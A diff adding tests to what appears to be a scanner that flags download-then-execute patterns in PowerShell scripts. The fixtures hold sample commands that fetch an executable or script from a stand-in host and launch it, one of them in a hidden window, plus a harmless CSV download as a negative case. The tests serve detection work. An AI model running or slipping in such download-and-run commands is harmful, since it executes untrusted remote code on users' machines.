@@ -347,3 +347,32 @@ def test_package_bin_as_a_string_takes_the_package_name_blocks(tmp_path: Path) -
 def test_package_bin_with_its_own_name_does_not_block(tmp_path: Path) -> None:
     pkg = '{"name": "git-signoff", "version": "1.0.0", "bin": {"git-signoff": "bin/cli.js"}}\n'
     assert blocking(tmp_path, {"package.json": pkg, "bin/cli.js": "console.log(1);\n"}) == {}
+
+
+# ------------------------------------------------ PowerShell: a download saved to a file, then started
+
+
+def test_powershell_download_saved_then_started_blocks(tmp_path: Path) -> None:
+    ps = (
+        '$dst = Join-Path $env:TEMP "helper.exe"\n$dst = "$env:TEMP\\helper.exe"\n'
+        'Invoke-WebRequest -UseBasicParsing -Uri "https://cdn.helper.example.test/h.exe" -OutFile $dst\n'
+        "Start-Process -FilePath $dst -WindowStyle Hidden\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"setup.ps1": ps})
+
+
+def test_powershell_bits_download_run_with_call_operator_blocks(tmp_path: Path) -> None:
+    ps = (
+        "Start-BitsTransfer -Source https://cdn.helper.example.test/u.ps1 -Destination 'C:\\ProgramData\\u.ps1'\n"
+        "& 'C:\\ProgramData\\u.ps1'\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"update.ps1": ps})
+
+
+def test_powershell_download_saved_and_only_read_does_not_block(tmp_path: Path) -> None:
+    ps = (
+        '$csv = "$env:TEMP\\rates.csv"\n'
+        'Invoke-WebRequest -Uri "https://data.example.test/rates.csv" -OutFile $csv\n'
+        "Import-Csv $csv | Format-Table\nStart-Process notepad.exe\n"
+    )
+    assert blocking(tmp_path, {"rates.ps1": ps}) == {}
